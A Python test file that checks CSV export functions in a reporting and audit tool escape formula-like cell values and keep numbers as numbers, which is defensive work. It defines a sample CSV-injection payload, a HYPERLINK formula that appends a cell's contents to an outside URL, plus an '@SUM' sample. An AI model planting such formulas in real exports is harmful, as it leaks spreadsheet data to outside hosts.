"""CSV files for people: what somebody typed runs nowhere as a formula, and figures stay figures."""

import csv
import io

import pytest

from jinguo.cli.audit import _ALL, _csv
from jinguo.cli.output import put_csv
from services.reporting.api.sheet import to_csv
from services.reporting.domain.report import HOUSEHOLDS, WOMEN, MatchReport, Row

LINK = '=HYPERLINK("https://example.org/"&A1)'


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_rows_that_a_command_prints(capsys: pytest.CaptureFixture[str]) -> None:
    put_csv(("name", "reason", "days"), [{"name": "@SUM(A1)", "reason": LINK, "days": -3}, {"name": "杨秀兰"}])
    first, second = read(capsys.readouterr().out)
    assert first == {"name": "'@SUM(A1)", "reason": f"'{LINK}", "days": "-3"}
    assert second == {"name": "杨秀兰", "reason": "", "days": ""}


def test_entries_of_the_audit_trail() -> None:
    entry = dict.fromkeys(_ALL) | {"service": "registry", "number": 7, "reason": LINK, "detail": {"rows": 2}}
    (row,) = read(_csv([entry]))
    assert (row["reason"], row["number"], row["detail"]) == (f"'{LINK}", "7", '{"rows": 2}')


def test_the_report() -> None:
    figures = dict.fromkeys((HOUSEHOLDS, *WOMEN), 0)
    row = Row("522634000000", LINK, figures)
    (line, total) = read(to_csv(MatchReport("522634000000", LINK, 1, (row,), row)).decode("utf-8-sig"))
    assert line["name"] == total["name"] == f"'{LINK}"
